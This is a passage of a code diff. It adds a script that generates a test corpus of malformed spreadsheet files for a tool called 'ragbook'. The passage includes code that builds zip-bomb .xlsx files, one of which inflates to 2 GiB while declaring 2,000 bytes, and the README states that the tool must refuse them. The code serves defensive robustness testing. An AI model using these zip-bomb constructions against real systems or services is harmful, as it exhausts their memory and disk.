+    const deflated = concat([...Array.from({ length: 32 }, () => piece), new Uint8Array([0x03, 0x00])]);
+    for (const [claim, name] of [
+      [2000, 'zip-bomb-2gib.xlsx'],
+      [2 ** 31, 'zip-bomb-2gib-honest.xlsx'],
+    ]) {
+      const z = new Zip();
+      for (const [part, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) {
+        if (part.endsWith('sheet1.xml')) z.add(part, null, { deflated, size: claim, crc: 0 });
+        else z.add(part, content);
+      }
+      fs.writeFileSync(path.join(dir, name), z.build());
+    }
+    // Just under the 1 GiB bound, honest in size and checksum: it is inflated, then
+    // refused because 896 MiB of zero bytes are not XML. Bounded, but the worst case.
+    const under = concat([...Array.from({ length: 14 }, () => piece), new Uint8Array([0x03, 0x00])]);
+    const size = 14 * 64 * 1024 * 1024;
+    let crc = 0;
+    const zeros = new Uint8Array(64 * 1024 * 1024);
+    for (let i = 0; i < 14; i++) crc = zlib.crc32 ? zlib.crc32(zeros, crc) : crc32(zeros, crc);
+    const z = new Zip();
+    for (const [part, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) {
+      if (part.endsWith('sheet1.xml')) z.add(part, null, { deflated: under, size, crc });
+      else z.add(part, content);
+    }
+    fs.writeFileSync(path.join(dir, 'zip-bomb-under-limit.xlsx'), z.build());
+    made.push({
+      name: path.basename(file),
+      expect: EXPECT_REFUSED,
+      problems: ['too-large'],
+      what: 'a sheet stream that really inflates to 2 GiB while claiming 2,000 bytes',
+    });
+    made.push({
+      name: 'zip-bomb-under-limit.xlsx',
+      expect: EXPECT_REFUSED,
+      problems: ['corrupt', 'too-large'],
+      what: 'a sheet of 896 MiB of zero bytes, honest in size and checksum, just under the 1 GiB bound: inflated, then refused as not XML',
+    });
+    made.push({
+      name: 'zip-bomb-2gib-honest.xlsx',
+      expect: EXPECT_REFUSED,
+      problems: ['too-large'],
+      what: 'the same stream, honestly declaring 2 GiB (over the 1 GiB bound)',
+    });
+  }
+  fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(made, null, 2) + '\n');
+  return made;
+}
+
+// ---------------------------------------------------------------------------
+
+function writeCorpus(dir) {
+  fs.mkdirSync(dir, { recursive: true });
+  const files = corpus();
+  const manifest = files.map(({ data, ...rest }) => ({ ...rest, bytes: data.length }));
+  for (const f of files) fs.writeFileSync(path.join(dir, f.name), f.data);
+  fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
+  const row = (f) =>
+    `| \`${f.name}\` | ${f.bytes.toLocaleString('en-GB')} | ${f.expect === EXPECT_REFUSED ? `refused (${f.problems.join(' or ')})` : 'read'} | ${f.what.replace(/\|/g, '\\|')} |`;
+  const readme = [
+    '# Bad-input corpus',
+    '',
+    'Made by `node scripts/make-bad-inputs.mjs` (the source of truth: edit the script, not these files, and run it again). Checked by `tests/bad-inputs.test.ts`, which also makes the large cases (a million shared strings, formatted rows down to 1,048,576, a zip bomb that really inflates to 2 GiB) in a temporary folder with `--large`.',
+    '',
+    '**Refused** files must make `ragbook recalc FILE --out OUT` exit 2 with one line on stderr naming the file, write nothing, and take less than 5 s. **Read** files must be processed correctly (exit 0) within bounded time and memory.',
+    '',
+    '| file | bytes | outcome | what it is |',
+    '| --- | ---: | --- | --- |',
+    ...manifest.map(row),
+    '',
+  ].join('\n');
+  fs.writeFileSync(path.join(dir, 'README.md'), readme);
+  return manifest;
+}
+
+async function main() {
+  const argv = process.argv.slice(2);
+  const at = (flag) => {
+    const i = argv.indexOf(flag);
+    return i >= 0 ? argv[i + 1] : undefined;
+  };
+  if (argv.includes('--large')) {
+    const dir = path.resolve(at('--large'));
+    const made = large(dir);
+    console.log(`wrote ${made.length} large files to ${dir}`);
+    return;
+  }
+  const dir = path.resolve(at('--out') ?? path.join(ROOT, 'tests', 'bad-inputs'));
+  const manifest = writeCorpus(dir);
+  console.log(`wrote ${manifest.length} files to ${path.relative(process.cwd(), dir) || '.'}`);
+}
+
+main().catch((e) => {
+  console.error(e);
+  process.exit(1);
+});
